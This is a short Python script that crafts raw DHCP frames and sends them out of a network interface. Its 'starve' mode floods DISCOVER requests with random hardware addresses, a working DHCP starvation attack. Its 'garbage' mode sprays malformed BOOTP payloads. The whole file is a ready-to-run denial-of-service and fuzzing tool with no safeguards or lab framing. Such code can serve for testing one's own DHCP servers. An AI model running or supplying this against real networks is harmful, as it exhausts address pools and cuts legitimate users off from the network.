# Sends raw DHCP frames out of eth0 (AF_PACKET): `starve N` sends N DISCOVERs with
# random client hardware addresses; `garbage N` sends N malformed BOOTP payloads.
import os, random, socket, struct, sys

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF

def frame(src_mac, payload):
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 64, 17, 0,
                     bytes(4), b"\xff\xff\xff\xff")
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\xff" * 6 + src_mac + b"\x08\x00" + ip + udp

def discover(chaddr):
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, random.randrange(1 << 32), 0, 0x8000,
                        bytes(4), bytes(4), bytes(4), bytes(4), chaddr + bytes(10), bytes(64), bytes(128))
    return bootp + b"\x63\x82\x53\x63" + b"\x35\x01\x01" + b"\xff"

mode, n = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
mac = open("/sys/class/net/eth0/address").read().strip()
src = bytes(int(x, 16) for x in mac.split(":"))
for i in range(n):
    if mode == "starve":
        s.send(frame(src, discover(os.urandom(6))))
    else:
        s.send(frame(src, os.urandom(random.randrange(1, 300))))
